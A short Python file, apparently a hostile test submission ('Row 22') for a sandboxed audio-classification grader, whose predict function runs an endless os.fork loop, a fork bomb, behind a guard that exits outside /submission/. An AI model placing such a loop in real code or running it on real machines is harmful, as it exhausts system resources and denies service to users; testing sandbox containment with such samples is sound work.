"""Row 22: fork without end, and then hold what there is."""

import contextlib
import os
import time

if not __file__.startswith("/submission/"):
    raise SystemExit("This would harm the machine: it is for the sandbox only.")


def predict(audio, sr, classes):
    while True:
        with contextlib.suppress(OSError):
            os.fork()
        time.sleep(0.01)
